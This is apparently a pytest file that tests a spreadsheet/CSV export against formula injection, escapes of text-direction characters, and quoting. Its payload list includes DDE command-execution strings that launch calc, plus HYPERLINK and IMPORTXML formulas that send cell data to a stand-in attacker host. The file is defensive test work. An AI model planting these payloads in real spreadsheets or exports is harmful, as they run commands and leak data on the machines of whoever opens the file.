"""I4: a spreadsheet shows what people typed and runs none of it."""

import csv
import io
import unicodedata

import pytest

from audit.spreadsheet import cell, csv_lines

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   \t =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u3000＝1+1",
    "﹦1+1",
    "−1+1",
    '=HYPERLINK("https://evil.example.test?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.example.test?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "fine\n=1+1",
    "fine\r\n@SUM(1)",
    "fine;=1+1",
    "fine; \u200b=cmd|' /C calc'!A0;",
    "fine\t=1+1",
    'fine";=1+1;"',
    'fine",=1+1,"',
    '"=1+1"',
    "'=1+1\n=2",
    "\x00=1+1",
    "\x1b=1+1",
    "|=1+1",
]
SIGNS = "=+-@\t\r\n"


def runs(text: str) -> bool:
    """Whether a spreadsheet might take the text of a cell for a formula."""
    seen = "".join(
        sign for sign in unicodedata.normalize("NFKC", text) if unicodedata.category(sign) not in ("Cf", "Cc")
    )
    return text[:1] in tuple(SIGNS) or seen.lstrip()[:1] in tuple("=+-@−")


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_I4_no_cell_runs_however_the_file_is_divided(payload: str) -> None:
    lines = "".join(csv_lines(["number", "justification", "end"], [[1, payload, "end"]]))
    assert [len(row) for row in csv.reader(io.StringIO(lines, newline=""))] == [3, 3], (
        "the payload makes no cell of its own"
    )
    for delimiter in ",;\t|":
        for row in csv.reader(io.StringIO(lines, newline=""), delimiter=delimiter):
            assert not [text for text in row if runs(text)], delimiter
    # and for a reader that knows neither quotes nor line breaks inside them
    for line in lines.splitlines():
        for delimiter in ";\t|":
            assert not [text for text in line.split(delimiter) if runs(text)], delimiter


@pytest.mark.parametrize(
    "text",
    ["Replace the certificate", "CHG-20440, checked", "a = b", "kim@example.test", "50 % - done", "", "12"],
)
def test_I4_what_is_no_formula_is_left_as_it_is(text: str) -> None:
    assert cell(text) == text


def test_I5_what_turns_the_direction_of_writing_is_written_out() -> None:
    assert cell("approved\u202edeined\x1b[2J") == "approved\\u202edeined\\u001b[2J"


def test_every_cell_is_quoted_and_quotes_are_doubled() -> None:
    assert list(csv_lines(["a"], [['say "hi"'], [None], [5]])) == [
        '"a"\r\n',
        '"say ""hi"""\r\n',
        '""\r\n',
        '"5"\r\n',
    ]
